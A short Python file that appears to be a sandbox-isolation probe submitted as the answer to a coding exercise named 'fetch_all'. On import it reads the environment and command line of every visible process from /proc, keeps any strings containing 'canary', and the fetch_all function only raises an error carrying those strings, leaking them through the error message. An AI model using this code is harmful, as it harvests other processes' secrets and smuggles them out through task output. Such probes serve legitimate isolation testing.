"""Tries to read the environment of every process that it can see."""

# %%

import glob

SEEN = ""
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        SEEN += open(path, "rb").read().decode(errors="replace")
    except OSError:
        pass
SEEN = " ".join(part for part in SEEN.split("\0") if "canary" in part) or "nothing"


# %% exercise:fetch_all


async def fetch_all(fetch, names):
    raise ValueError(SEEN[:400])
